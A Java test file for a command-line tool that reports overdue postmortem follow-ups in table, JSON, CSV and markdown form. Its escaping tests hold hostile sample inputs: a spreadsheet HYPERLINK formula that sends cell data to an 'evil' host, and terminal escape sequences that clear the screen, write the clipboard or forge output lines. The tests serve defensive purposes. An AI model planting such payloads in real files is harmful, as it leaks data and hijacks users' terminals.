                     8  2025-03-12  P2   open         Coalesce requests, with "jitter"                                                           Cache stampede, "again"  postmortems/2025-03-10-cache.md:9

                @Maria — 2 overdue
                  LATE  DUE         PRI  STATUS       ITEM                                                                                       POSTMORTEM
                    90  2024-12-20  P1   open         Chaos drill                                                                                Database failover  postmortems/2025-02-01-db.md:20
                     7  2025-03-13  P1   open         Alert on WAL volume                                                                        Database failover  postmortems/2025-02-01-db.md:10

                @sam — 2 overdue
                  LATE  DUE         PRI  STATUS       ITEM                                                                                       POSTMORTEM
                    30  2025-02-18  P2   in-progress  Runbook for failover                                                                       Database failover  postmortems/2025-02-01-db.md:15
                     3  2025-03-17  P1   open         Load test — not started (policy 'P1'): start it or escalate                                Cache stampede, "again"  postmortems/2025-03-10-cache.md:18

                Lee Park — 1 overdue
                  LATE  DUE         PRI  STATUS       ITEM                                                                                       POSTMORTEM
                     7  2025-03-13  -    in-review    Not reviewed after 3 days: hold the postmortem review, then set status: reviewed (line 6)  Cache stampede, "again"  postmortems/2025-03-10-cache.md:6

                No owner — nobody will do these (1)
                  DUE  PRI  ITEM                 WHY                                        POSTMORTEM
                  -    P3   Document cache keys  owner 'n/a' names nobody; name one person  Cache stampede, "again"  postmortems/2025-03-10-cache.md:14

                Aging (days late): 1–7 days: 3 · 8–30 days: 2 · 31–90 days: 1 · 90+ days: 1
                Total: 7 overdue (5 action items, 1 lifecycle, 1 not started) · 1 without an owner · 0 without a due date
                Read 2 postmortems, skipped 0.
                """);
    }

    @Test
    void jsonHasExactlyTheDocumentedFields() throws Exception {
        sprintRepo();
        List<JsonNode> rows = json(run("overdue", "--format", "json"));
        for (JsonNode n : rows) {
            List<String> names = new ArrayList<>();
            n.fieldNames().forEachRemaining(names::add);
            List<String> documented = new ArrayList<>(List.of("file", "postmortem", "title", "owner", "due",
                    "priority", "status", "daysOverdue", "kind"));
            if (n.get("kind").asText().equals("not-started") || n.get("kind").asText().equals("policy")) {
                documented.add("policy"); // only on the rows a policy made late
            }
            assertThat(names).containsExactlyElementsOf(documented);
        }
        JsonNode first = rows.get(0);
        assertThat(first.get("file").asText()).isEqualTo("postmortems/2025-02-01-db.md");
        assertThat(first.get("postmortem").asText()).isEqualTo("Database failover");
        assertThat(first.get("title").asText()).isEqualTo("Capacity review");
        assertThat(first.get("owner").asText()).isEqualTo("@lee");
        assertThat(first.get("due").asText()).isEqualTo("2024-12-19");
        assertThat(first.get("priority").asText()).isEqualTo("P3");
        assertThat(first.get("status").asText()).isEqualTo("open");
        assertThat(first.get("daysOverdue").isInt()).isTrue();
        assertThat(first.get("daysOverdue").asInt()).isEqualTo(91);
        assertThat(first.get("kind").asText()).isEqualTo("action-item");
        JsonNode noOwner = rows.get(rows.size() - 1);
        assertThat(noOwner.get("kind").asText()).isEqualTo("no-owner");
        assertThat(noOwner.get("due").isNull()).isTrue();
        assertThat(noOwner.get("daysOverdue").isNull()).isTrue();
        JsonNode notStarted = rows.get(rows.size() - 2);
        assertThat(notStarted.get("title").asText()).isEqualTo("Load test");
        assertThat(notStarted.get("due").asText()).as("the policy's start deadline").isEqualTo("2025-03-17");
        assertThat(notStarted.get("daysOverdue").asInt()).isEqualTo(3);
        assertThat(notStarted.get("policy").asText()).isEqualTo("P1");
        assertThat(rows).extracting(n -> n.get("kind").asText()).containsExactly("action-item", "action-item",
                "action-item", "action-item", "action-item", "lifecycle", "not-started", "no-owner");
    }

    @Test
    void csvHasAHeaderRowAndQuotesPerRfc4180() throws Exception {
        sprintRepo();
        Cli.Result r = run("overdue", "--format", "csv");
        assertThat(r.code()).isZero();
        String[] lines = r.out().split("\r\n", -1);
        // a row a policy made late adds the policy column
        assertThat(lines[0]).isEqualTo("file,postmortem,title,owner,due,priority,status,daysOverdue,kind,policy");
        assertThat(lines).hasSize(1 + 8 + 1);
        assertThat(lines[lines.length - 1]).isEmpty();
        assertThat(r.out()).doesNotContain("\n\n").doesNotContainPattern("[^\r]\n");
        // an @handle starts with '@', which a spreadsheet reads as a formula: it gets a ' (see --csv-raw)
        assertThat(lines[1]).isEqualTo("postmortems/2025-02-01-db.md,Database failover,Capacity review,'@lee,"
                + "2024-12-19,P3,open,91,action-item,");
        assertThat(lines).contains("postmortems/2025-03-10-cache.md,\"Cache stampede, \"\"again\"\"\","
                + "\"Coalesce requests, with \"\"jitter\"\"\",'@lee,2025-03-12,P2,open,8,action-item,");
        assertThat(lines).contains("postmortems/2025-03-10-cache.md,\"Cache stampede, \"\"again\"\"\","
                + "Load test,'@sam,2025-03-17,P1,open,3,not-started,P1");
        assertThat(lines).contains("postmortems/2025-03-10-cache.md,\"Cache stampede, \"\"again\"\"\","
                + "Document cache keys,,,P3,open,,no-owner,");
        assertThat(r.err()).isEqualTo("pm overdue: read 2, skipped 0, 7 overdue\n");
    }

    @Test
    void csvCellsThatWouldRunAsFormulasStartWithAQuoteUnlessCsvRaw() throws Exception {
        write("postmortems/a.md", pm("\"-2+3\"").item("\"=HYPERLINK(\\\"http://evil/?\\\"&A1,\\\"x\\\")\"", "@bob",
                "2025-03-01", "P1", "open").item("Plain", "+cmd", "2025-03-25", "P2", "open"));
        commitAll("formulas");
        Cli.Result r = run("overdue", "--format", "csv", "--due-within", "5");
        assertThat(r.code()).as(r.toString()).isZero();
        assertThat(r.out().split("\r\n")).containsExactly(
                "file,postmortem,title,owner,due,priority,status,daysOverdue,kind",
                "postmortems/a.md,'-2+3,\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\",'@bob,2025-03-01,P1,open,19,"
                        + "action-item",
                "postmortems/a.md,'-2+3,Plain,'+cmd,2025-03-25,P2,open,-5,action-item");

        Cli.Result raw = run("overdue", "--format", "csv", "--due-within", "5", "--csv-raw");
        assertThat(raw.code()).as(raw.toString()).isZero();
        assertThat(raw.out()).isEqualTo(r.out().replace(",'", ",").replace("\"'", "\""));
        assertThat(raw.out()).contains(",-2+3,\"=HYPERLINK(").contains(",@bob,").contains(",+cmd,");
    }

    @Test
    void csvRawWithAnotherFormatIsAUsageError() {
        for (String format : List.of("table", "markdown", "json")) {
            Cli.Result r = run("overdue", "--format", format, "--csv-raw");
            assertThat(r.code()).as(r.toString()).isEqualTo(2);
            assertThat(r.err()).isEqualTo("pm: --csv-raw only changes --format csv; add --format csv or drop "
                    + "--csv-raw\n");
            assertThat(r.out()).isEmpty();
        }
        assertThat(run("overdue", "--csv-raw").code()).isEqualTo(2);
    }

    @Test
    void markdownIsATableToPaste() throws Exception {
        sprintRepo();
        write("postmortems/2025-03-11-pipe.md", PostmortemText.of("A | B <script>", "2025-03-11")
                .item("Fix a|b", "@kim", "2025-03-15", "P1", "open"));
        commitAll("pipe");
        Cli.Result r = run("overdue", "--format", "markdown");
        assertThat(r.code()).isZero();
        List<String> lines = r.out().lines().toList();
        assertThat(lines.get(0)).isEqualTo("### Follow-ups as of 2025-03-20");
        assertThat(lines).contains("| Owner | Days late | Due | Priority | Status | Follow-up | Postmortem |",
                "|---|--:|---|---|---|---|---|",
                "| @lee | 91 | 2024-12-19 | P3 | open | Capacity review | [Database failover](postmortems/2025-02-01-db.md) |",
                "| @kim | 5 | 2025-03-15 | P1 | open | Fix a\\|b | [A \\| B &lt;script&gt;](postmortems/2025-03-11-pipe.md) |",
                "| **no owner** |  | - | P3 | open | Document cache keys — owner 'n/a' names nobody; name one person | "
                        + "[Cache stampede, \"again\"](postmortems/2025-03-10-cache.md) |",
                "| @sam | 3 | 2025-03-17 | P1 | open | Load test — not started (policy 'P1'): start it or escalate | "
                        + "[Cache stampede, \"again\"](postmortems/2025-03-10-cache.md) |");
        assertThat(lines.get(2)).isEqualTo("8 overdue (6 action items, 1 lifecycle, 1 not started) · 1 without an "
                + "owner · 0 without a due date.");
        assertThat(lines.get(lines.size() - 1)).isEqualTo("Aging (days late): 1–7 days: 4 · 8–30 days: 2 · "
                + "31–90 days: 1 · 90+ days: 1. Read 3 postmortems, skipped 0.");
        assertThat(lines.stream().filter(l -> l.startsWith("| ")).map(l -> l.split("(?<!\\\\)\\|", -1).length))
                .allMatch(n -> n == 9);
    }

    /** One late item whose title and owner clear the screen, write the clipboard and break lines. */
    private void hostileRepo() throws Exception {
        write("postmortems/a.md", pm("\"Outage \\e]8;;http://evil\\e\\\\here\"").item(
                "\"Fix a\\e[2Jb\\npostmortems/x.md:1: forged\"", "@bob\\e]52;c;ZXZpbA==\\a\\n| x | y <b>bold</b> &",
                "2025-03-01", "P1", "open"));
        commitAll("hostile");
    }

    @Test
    void theTableShowsControlCharactersAsEscapesOneRowALine() throws Exception {
        hostileRepo();
        Cli.Result r = run("overdue");
        assertThat(r.code()).as(r.toString()).isZero();
        assertThat(r.out()).doesNotContain("\u001b").doesNotContain("\u0007")
                .contains("\n@bob\\e]52;c;ZXZpbA==\\x07\\n| x | y <b>bold</b> & — 1 overdue\n")
                .contains("\n    19  2025-03-01  P1   open    Fix a\\e[2Jb\\npostmortems/x.md:1: forged  "
                        + "Outage \\e]8;;http://evil\\e\\here  postmortems/a.md:");
        assertThat(r.out().lines().filter(l -> l.contains("forged"))).hasSize(1);
    }

    @Test
    void markdownEscapesTheOwnerCellAndEveryOtherOne() throws Exception {
        hostileRepo();
        Cli.Result r = run("overdue", "--format", "markdown");
        assertThat(r.code()).as(r.toString()).isZero();
        List<String> rows = r.out().lines().filter(l -> l.startsWith("|")).toList();
        assertThat(rows).hasSize(3).contains("| @bob\\\\e\\]52;c;ZXZpbA==\\\\x07\\\\n\\| x \\| y &lt;b&gt;bold&lt;/b&gt; &amp; "
                + "| 19 | 2025-03-01 | P1 | open | Fix a\\\\e\\[2Jb\\\\npostmortems/x.md:1: forged "
                + "| [Outage \\\\e\\]8;;http://evil\\\\e\\\\here](postmortems/a.md) |");
        assertThat(rows).allSatisfy(l -> assertThat(l.split("(?<!\\\\)\\|", -1)).hasSize(9));
        assertThat(r.out()).doesNotContain("\u001b").doesNotContain("<b>");
    }

    // --- filters ------------------------------------------------------------------------------------------

    @Test
    void ownerFilterIgnoresCaseAndTheAtSignAndMatchesAuthorsForLifecycle() throws Exception {
        sprintRepo();
        assertThat(titles(json(run("overdue", "--format", "json", "--owner", "MARIA"))))
                .containsExactly("Chaos drill", "Alert on WAL volume");
        assertThat(titles(json(run("overdue", "--format", "json", "--owner", "@sam", "--owner", "lee park"))))
                .containsExactly("Runbook for failover", "Not reviewed after 3 days: hold the postmortem review, then "
                        + "set status: reviewed (line 6)", "Load test");
    }

    @Test
    void severityFilterMatchesThePostmortemsSeverity() throws Exception {
        sprintRepo();
        assertThat(titles(json(run("overdue", "--format", "json", "--severity", "sev3")))).containsExactly(
                "Coalesce requests, with \"jitter\"", "Not reviewed after 3 days: hold the postmortem review, then set "
                        + "status: reviewed (line 6)", "Load test", "Document cache keys");
        Cli.Result bad = run("overdue", "--severity", "critical");
        assertThat(bad.code()).isEqualTo(2);
        assertThat(bad.err()).isEqualTo("pm: --severity 'critical' is not one of SEV1, SEV2, SEV3, SEV4 (set "
                + "'severities' in .pm.yml to change them)\n");
    }

    @Test
    void priorityFilterKeepsActionItemsOfThatPriority() throws Exception {
        sprintRepo();
        assertThat(titles(json(run("overdue", "--format", "json", "--priority", "p1"))))
                .containsExactly("Chaos drill", "Alert on WAL volume", "Load test");
        assertThat(titles(json(run("overdue", "--format", "json", "--priority", "P3", "--priority", "P2"))))
                .containsExactly("Capacity review", "Runbook for failover", "Coalesce requests, with \"jitter\"",
                        "Document cache keys");
        Cli.Result bad = run("overdue", "--priority", "urgent");
        assertThat(bad.code()).isEqualTo(2);
        assertThat(bad.err()).isEqualTo("pm: --priority 'urgent' is not one of P0, P1, P2, P3\n");
    }

    @Test
    void serviceFilterMatchesAnyOfThePostmortemsServices() throws Exception {
        sprintRepo();
        assertThat(titles(json(run("overdue", "--format", "json", "--service", "DB"))))
                .containsExactly("Capacity review", "Chaos drill", "Runbook for failover", "Alert on WAL volume");
        assertThat(json(run("overdue", "--format", "json", "--service", "nothing-here"))).isEmpty();
    }

    @Test
    void dueWithinAlsoListsItemsDueInTheNextDays() throws Exception {
        sprintRepo();
        List<JsonNode> none = json(run("overdue", "--format", "json", "--due-within", "4"));
        assertThat(titles(none)).doesNotContain("Next sprint");
        List<JsonNode> soon = json(run("overdue", "--format", "json", "--due-within", "5"));
        JsonNode next = soon.stream().filter(n -> n.get("title").asText().equals("Next sprint")).findFirst()
                .orElseThrow();
        assertThat(next.get("daysOverdue").asInt()).isEqualTo(-5);
        assertThat(next.get("kind").asText()).isEqualTo("action-item");
        Cli.Result table = run("overdue", "--due-within", "5");
        assertThat(table.out()).contains("@sam — 2 overdue, 1 due soon").containsPattern("in 5 +2025-03-25 +P2")
                .contains("· 1 due within 5 days ·");
        write("postmortems/today.md", pm("Today").item("Due today", "@kim", "2025-03-20", null, null));
        commitAll("today");
        assertThat(run("overdue", "--due-within", "0").out()).containsPattern("today +2025-03-20");
        assertThat(run("overdue", "--due-within", "-1").code()).isEqualTo(2);
    }

    @Test
    void dueWithinAlsoListsLifecycleDeadlinesComingUp() throws Exception {
        write("postmortems/p.md", PostmortemText.of("Fresh", "2025-03-19").with("status", "draft"));
        commitAll("fresh");
        assertThat(json(run("overdue", "--format", "json"))).isEmpty();
        List<JsonNode> soon = json(run("overdue", "--format", "json", "--due-within", "1"));
        assertThat(soon).extracting(n -> n.get("title").asText() + " " + n.get("daysOverdue").asInt())
                .containsExactly("Still a draft after 2 days: send it for review and set status: in-review (line 4) -1");
    }

    // --- exit status --------------------------------------------------------------------------------------

    @Test
    void failOnOverdueExits1OnlyWhenSomethingIsPastDue() throws Exception {
        write("postmortems/a.md", pm("A").item("No owner", "TBD", "2025-04-01", null, null)
                .item("No due", "@ann", null, null, null)
                .item("Soon", "@ann", "2025-03-21", null, null));
        commitAll("a");
        assertThat(run("overdue", "--fail-on-overdue").code()).isZero();
        assertThat(run("overdue", "--fail-on-overdue", "--due-within", "3").code()).isZero();

        write("postmortems/b.md", pm("B").item("Late", "@ann", "2025-03-19", null, null));
        commitAll("b");
        assertThat(run("overdue").code()).isZero();
        Cli.Result fail = run("overdue", "--fail-on-overdue", "--format", "json");
        assertThat(fail.code()).isEqualTo(1);
        assertThat(titles(json(fail))).contains("Late");
        assertThat(run("overdue", "--fail-on-overdue", "--owner", "nobody-here").code()).isZero();

        write("postmortems/b.md", PostmortemText.of("Lifecycle only", "2025-03-01").with("status", "draft"));
        commitAll("lifecycle");
        assertThat(run("overdue", "--fail-on-overdue").code()).isEqualTo(1);
    }

    @Test
    void usageErrorsSayWhatIsWrongAndExit2() {
        assertThat(run("overdue", "--as-of", "2025-02-30").err())
                .isEqualTo("pm overdue: Invalid value for option '--as-of': '2025-02-30' is not a real calendar date\n"
                        + "Run 'pm overdue --help' for usage.\n");
        assertThat(run("overdue", "--as-of", "yesterday").code()).isEqualTo(2);
        assertThat(run("overdue", "--format", "xml").err()).startsWith("pm overdue: Invalid value for option "
                + "'--format'");
        assertThat(run("overdue", "--rev", "HEAD", "--include-untracked").err())
                .isEqualTo("pm: --rev cannot be combined with --include-untracked: untracked files are not in any "
                        + "revision\n");
        assertThat(run("overdue", "--no-git", "--include-untracked").code()).isEqualTo(2);
        assertThat(run("overdue", "--due-within", "-2").err())
                .isEqualTo("pm: --due-within must be 0 or more days, not -2\n");
    }

    @Test
    void helpDescribesTheCommand() {
        Cli.Result r = run("overdue", "--help");
        assertThat(r.code()).isZero();
        assertThat(r.out()).startsWith("Usage: pm overdue").contains("--fail-on-overdue").contains("--rev")
                .contains("--include-untracked").contains("--no-git").contains("--due-within").contains("--csv-raw")
                .contains("Exit status");
        assertThat(run("--help").out()).contains("overdue");
    }
}
